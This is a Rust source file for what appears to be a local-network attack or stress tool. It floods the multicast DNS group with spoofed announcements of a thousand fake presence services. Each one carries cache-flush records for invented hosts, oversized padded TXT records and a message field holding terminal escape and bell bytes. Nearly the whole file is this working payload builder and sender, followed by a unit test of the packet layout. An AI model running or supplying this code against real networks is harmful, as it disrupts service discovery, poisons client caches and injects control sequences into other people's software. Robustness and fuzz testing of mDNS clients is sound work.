//! A thousand neighbours that do not exist, each with more to say than anybody wants to hear:
//! unsolicited multicast DNS responses (RFC 6762 §8.3, RFC 1035 §4.1).

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::thread;
use std::time::Duration;

/// The group and port of multicast DNS on IPv4.
const GROUP: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)), 5353);
/// Between two announcements.
const PACE: Duration = Duration::from_millis(2);
/// Strings of 255 octets in each TXT record: it just fits into a datagram of multicast DNS.
const STRINGS: usize = 30;
const TTL: u32 = 4500;
const CLASS_IN: u16 = 1;
const CACHE_FLUSH: u16 = 0x8000;
const A: u16 = 1;
const PTR: u16 = 12;
const TXT: u16 = 16;
const SRV: u16 = 33;

fn name(labels: &[&str]) -> Vec<u8> {
    let mut octets = Vec::new();
    for label in labels {
        octets.push(label.len() as u8);
        octets.extend_from_slice(label.as_bytes());
    }
    octets.push(0);
    octets
}

fn record(owner: &[u8], kind: u16, class: u16, data: &[u8]) -> Vec<u8> {
    let mut octets = owner.to_vec();
    octets.extend_from_slice(&kind.to_be_bytes());
    octets.extend_from_slice(&class.to_be_bytes());
    octets.extend_from_slice(&TTL.to_be_bytes());
    octets.extend_from_slice(&(data.len() as u16).to_be_bytes());
    octets.extend_from_slice(data);
    octets
}

/// The announcement of the ghost with this number.
pub(crate) fn announcement(number: u32) -> Vec<u8> {
    let service = ["_presence", "_tcp", "local"];
    let ghost = format!("ghost{number}@nowhere");
    let host = name(&[&format!("nowhere{number}"), "local"]);
    let mut labels = vec![ghost.as_str()];
    labels.extend(service);
    let (service, instance) = (name(&service), name(&labels));

    let mut srv = vec![0, 0, 0, 0];
    srv.extend_from_slice(&5298_u16.to_be_bytes());
    srv.extend_from_slice(&host);
    let mut txt = Vec::new();
    let mut say = |text: &[u8]| {
        txt.push(text.len() as u8);
        txt.extend_from_slice(text);
    };
    say(b"txtvers=1");
    say(b"ext=avavail avcap audio");
    say(b"node=apple:ichat:caps");
    say(b"msg=\x1b[2J\x07\xff\xfe");
    for index in 0..STRINGS {
        let mut text = format!("key{index:02}=").into_bytes();
        text.resize(255, b'x');
        say(&text);
    }
    let [.., high, low] = number.to_be_bytes();
    let unique = CLASS_IN | CACHE_FLUSH;
    let records = [
        record(&service, PTR, CLASS_IN, &instance),
        record(&instance, SRV, unique, &srv),
        record(&instance, TXT, unique, &txt),
        record(&host, A, unique, &[10, 99, high, low]),
    ];
    // A response, authoritative, without questions.
    let mut octets = vec![0, 0, 0x84, 0, 0, 0, 0, records.len() as u8, 0, 0, 0, 0];
    octets.extend(records.concat());
    octets
}

/// Announces so many from this address.
///
/// # Errors
/// One line on what the system refused.
pub(crate) fn run(bind: IpAddr, count: u32) -> Result<(), String> {
    let socket = UdpSocket::bind((bind, GROUP.port())).map_err(|error| error.to_string())?;
    for number in 0..count {
        socket
            .send_to(&announcement(number), GROUP)
            .map_err(|error| format!("to {GROUP}: {error}"))?;
        thread::sleep(PACE);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_announcement_has_four_answers_and_fits_into_a_datagram() {
        let octets = announcement(999);
        assert_eq!(octets[..12], [0, 0, 0x84, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
        assert!((7000..9000).contains(&octets.len()), "{}", octets.len());
        assert!(octets.ends_with(&[10, 99, 3, 0xe7]));
        // PTR: owner, type, class, TTL, length of the data.
        let owner = name(&["_presence", "_tcp", "local"]);
        assert_eq!(octets[12..12 + owner.len()], owner);
        let fields = &octets[12 + owner.len()..][..10];
        assert_eq!(fields[..8], [0, 12, 0, 1, 0, 0, 0x11, 0x94]);
    }
}
